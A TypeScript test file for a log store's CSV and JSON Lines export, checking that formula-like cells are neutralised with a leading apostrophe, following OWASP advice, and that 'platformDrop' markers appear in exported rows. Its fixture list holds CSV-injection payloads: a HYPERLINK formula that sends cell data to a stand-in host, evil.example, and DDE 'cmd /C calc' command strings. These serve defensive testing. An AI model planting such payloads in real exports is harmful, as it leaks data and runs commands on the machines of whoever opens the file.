import { describe, expect, it } from 'vitest';
import { openAppDatabase } from '../database';
import { LogStore } from './log-store';
import { Redactor } from './redactor';

/** Cells of an RFC 4180 text, as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  return rows;
}

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uFF1D1+1',
];

describe('the CSV export', () => {
  it('makes every cell that a spreadsheet would run as a formula plain text, as OWASP advises', () => {
    const store = new LogStore(openAppDatabase(null), { redactor: new Redactor() });
    store.append(
      FORMULAS.map((message, index) => ({
        ts: 1_700_000_000_000 + index,
        environment: 'development',
        level: 'log',
        message,
        invocationId: '=inv',
        functionKey: '+fn',
        moduleKey: '@module',
        installation: '-jira',
      })),
    );
    const rows = parseCsv([...store.exportLines({}, 'csv')].join(''));
    expect(rows[0]).toEqual(['ts', 'env', 'level', 'message', 'invocationId', 'functionKey', 'moduleKey', 'installation', 'platformDrop', 'source', 'appVersion']);
    expect(rows.slice(1).map((row) => row[3])).toEqual(FORMULAS.map((formula) => `'${formula}`));
    for (const row of rows.slice(1)) expect(row.slice(4)).toEqual(["'=inv", "'+fn", "'@module", "'-jira", '', '', '']);
  });

  it('leaves ordinary text as it was', () => {
    const store = new LogStore(openAppDatabase(null), { redactor: new Redactor() });
    store.append([
      { ts: 1_700_000_000_000, environment: 'development', level: 'log', message: 'total = 3, a "quote" - fine', invocationId: null, functionKey: null, moduleKey: null, installation: null },
    ]);
    expect(parseCsv([...store.exportLines({}, 'csv')].join(''))[1]).toEqual([
      new Date(1_700_000_000_000).toISOString(),
      'development',
      'log',
      'total = 3, a "quote" - fine',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
    ]);
  });
});

describe('an export of lines the platform would drop', () => {
  function storeWithDrops() {
    const store = new LogStore(openAppDatabase(null), { redactor: new Redactor() });
    const line = { environment: 'development', level: 'log' as const, invocationId: 'inv-1', functionKey: 'main', moduleKey: null, installation: null };
    store.append([
      { ...line, ts: 1_700_000_000_000, message: 'line 100' },
      { ...line, ts: 1_700_000_000_001, message: 'line 101', platformDrop: 'lines' },
      { ...line, ts: 1_700_000_000_002, message: 'big', platformDrop: 'size' },
    ]);
    return store;
  }

  it('marks them in JSON Lines with platformDrop, as anvil logs --json does, and leaves the key off kept lines', () => {
    const lines = [...storeWithDrops().exportLines({}, 'jsonl')]
      .join('')
      .trim()
      .split('\n')
      .map((text) => JSON.parse(text) as Record<string, unknown>);
    expect(lines.map((line) => [line.message, line.platformDrop])).toEqual([
      ['line 100', undefined],
      ['line 101', 'lines'],
      ['big', 'size'],
    ]);
    expect(Object.keys(lines[0]!)).not.toContain('platformDrop');
  });

  it('marks them in a platformDrop column of the CSV, empty for kept lines', () => {
    const rows = parseCsv([...storeWithDrops().exportLines({}, 'csv')].join(''));
    expect(rows.slice(1).map((row) => [row[3], row[8]])).toEqual([
      ['line 100', ''],
      ['line 101', 'lines'],
      ['big', 'size'],
    ]);
  });
});
